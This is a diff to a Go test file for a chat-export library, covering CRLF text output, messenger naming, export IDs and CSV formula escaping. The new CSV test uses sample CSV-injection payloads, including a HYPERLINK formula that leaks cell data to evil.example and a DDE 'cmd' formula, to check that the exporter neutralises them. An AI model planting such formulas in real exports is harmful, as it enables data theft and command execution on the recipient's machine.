@@ -47,7 +47,7 @@ var saved = time.Date(2026, 11, 23, 5, 3, 28, 0, time.UTC)
 func export(t testing.TB, f chatexport.Format, lang string, room chatexport.Room, msgs []chatexport.Message) []byte {
 	t.Helper()
 	var buf bytes.Buffer
-	w := chatexport.New(&buf, f, lang, seoul)
+	w := chatexport.New(&buf, f, chatexport.Options{Lang: lang, Loc: seoul})
 	if err := w.Begin(room, saved); err != nil {
 		t.Fatal(err)
 	}
@@ -95,7 +95,7 @@ func TestGolden(t *testing.T) {
 
 func TestEmptyChat(t *testing.T) {
 	room := chatexport.Room{ID: 1, Title: "bob"}
-	if got := string(export(t, chatexport.Text, "en", room, nil)); got != "bob with talksafe Chats\nDate Saved : 2026-11-23 14:03:28\n\n" {
+	if got := string(export(t, chatexport.Text, "en", room, nil)); got != "bob with talksafe Chats\r\nDate Saved : 2026-11-23 14:03:28\r\n\r\n" {
 		t.Errorf("text: %q", got)
 	}
 	if got := string(export(t, chatexport.CSV, "en", room, nil)); got != "Date,User,Message\r\n" {
@@ -123,7 +123,15 @@ var (
 // other line continues the one before.
 func parseText(t *testing.T, out []byte, lang string) (string, []parsed) {
 	t.Helper()
-	lines := strings.Split(strings.TrimSuffix(string(out), "\n"), "\n")
+	if !strings.HasSuffix(string(out), "\r\n") {
+		t.Fatalf("the text does not end in CRLF: %q", out[max(0, len(out)-20):])
+	}
+	lines := strings.Split(strings.TrimSuffix(string(out), "\r\n"), "\r\n")
+	for _, line := range lines {
+		if strings.ContainsAny(line, "\r\n") {
+			t.Fatalf("a line break that is not CRLF in %q", line)
+		}
+	}
 	title := lines[0]
 	var day time.Time
 	var msgs []parsed
@@ -259,9 +267,97 @@ func same(t testing.TB, what string, got []parsed, want []chatexport.Message, pr
 		t.Fatalf("%s: %d messages read back, want %d", what, len(got), len(want))
 	}
 	for i := range want {
-		if got[i].Sender != want[i].Sender || got[i].Body != want[i].Body || !got[i].At.Equal(want[i].At.Truncate(precision)) {
+		sender, body := want[i].Sender, want[i].Body
+		if what == "csv" {
+			sender, body = spreadsheetSafe(sender), spreadsheetSafe(body)
+		}
+		if got[i].Sender != sender || got[i].Body != body || !got[i].At.Equal(want[i].At.Truncate(precision)) {
 			t.Fatalf("%s message %d: read back %+v, want %+v", what, i, got[i], want[i])
 		}
+	}
+}
+
+// spreadsheetSafe is a CSV cell as the export writes it: a leading ' when
+// the text starts as a spreadsheet formula would (OWASP's CSV injection).
+func spreadsheetSafe(s string) string {
+	if s != "" && strings.ContainsRune("=+-@\t\r", rune(s[0])) {
+		return "'" + s
+	}
+	return s
+}
+
+func TestCSVFormulas(t *testing.T) {
+	at := time.Date(2026, 11, 21, 14, 37, 5, 0, seoul)
+	room := chatexport.Room{ID: 1, Title: "x"}
+	for body, want := range map[string]string{
+		`=HYPERLINK("http://evil.example/?x="&A1,"click")`: `'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")`,
+		"+1 555":     "'+1 555",
+		"-2+3":       "'-2+3",
+		"@SUM(A1)":   "'@SUM(A1)",
+		"\t=1":       "'\t=1",
+		"\r=1":       "'\r=1",
+		"a=1":        "a=1",
+		" =1":        " =1",
+		"'=1":        "'=1",
+		"2026-11-21": "2026-11-21",
+	} {
+		msgs := []chatexport.Message{{ID: 1, SenderID: 1, Sender: "=cmd|' /C calc'!A0", Body: body, At: at}}
+		got := string(export(t, chatexport.CSV, "en", room, msgs))
+		row := "2026-11-21 14:37:05,\"'=cmd|' /C calc'!A0\",\"" + want + "\"\r\n"
+		if got != "Date,User,Message\r\n"+row {
+			t.Errorf("%q: got %q, want the row %q", body, got, row)
+		}
+		// Text and JSON keep the message exactly.
+		if text := string(export(t, chatexport.Text, "en", room, msgs)); !strings.Contains(text, "[=cmd|' /C calc'!A0] [2:37 PM] "+strings.ReplaceAll(body, "\r", "\r\n")+"\r\n") {
+			t.Errorf("%q: text export changed it:\n%q", body, text)
+		}
+		if _, got := parseJSON(t, export(t, chatexport.JSON, "en", room, msgs)); got[0].Body != body {
+			t.Errorf("%q: JSON export has %q", body, got[0].Body)
+		}
+	}
+}
+
+func TestMessengerName(t *testing.T) {
+	room := chatexport.Room{ID: 1, Title: "민지"}
+	for _, tc := range []struct {
+		name, korean string
+		lang, want   string
+	}{
+		{"", "", "en", "민지 with talksafe Chats\r\n"},
+		{"", "", "ko", "민지 님과 talksafe 대화\r\n"},
+		{"KakaoTalk", "", "en", "민지 with KakaoTalk Chats\r\n"},
+		{"KakaoTalk", "", "ko", "민지 님과 카카오톡 대화\r\n"},
+		{"Kakao Talk", "", "ko", "민지 님과 카카오톡 대화\r\n"},
+		{"Blue", "", "ko", "민지 님과 Blue 대화\r\n"},
+		{"Blue", "블루톡", "ko", "민지 님과 블루톡 대화\r\n"},
+		{"Blue\nTalk", "", "en", "민지 with Blue Talk Chats\r\n"},
+	} {
+		var buf bytes.Buffer
+		w := chatexport.New(&buf, chatexport.Text, chatexport.Options{Lang: tc.lang, Loc: seoul,
+			Messenger: chatexport.MessengerNamed(tc.name, tc.korean)})
+		w.Begin(room, saved)
+		w.End()
+		if first, _, _ := strings.Cut(buf.String(), "Date Saved"); !strings.HasPrefix(buf.String(), tc.want) {
+			t.Errorf("MessengerNamed(%q, %q) in %s: %q, want %q", tc.name, tc.korean, tc.lang, first, tc.want)
+		}
+	}
+}
+
+func TestExportID(t *testing.T) {
+	room := chatexport.Room{ID: 7, Title: "bob", ExportID: 4242}
+	var v struct {
+		ID       int64 `json:"id"`
+		ExportID int64 `json:"export_id"`
+	}
+	if err := json.Unmarshal(export(t, chatexport.JSON, "en", room, nil), &v); err != nil || v.ExportID != 4242 || v.ID != 7 {
+		t.Errorf("JSON: %+v %v", v, err)
+	}
+	if text := string(export(t, chatexport.Text, "en", room, nil)); strings.Contains(text, "4242") {
+		t.Errorf("the text layout names the export id: %q", text)
+	}
+	at := time.Date(2026, 11, 21, 14, 3, 28, 0, seoul)
+	if got := chatexport.FileName(room, chatexport.CSV, at, false); got != "talksafe_chat_bob_20261121_140328_export4242.csv" {
+		t.Errorf("file name %q", got)
 	}
 }
 
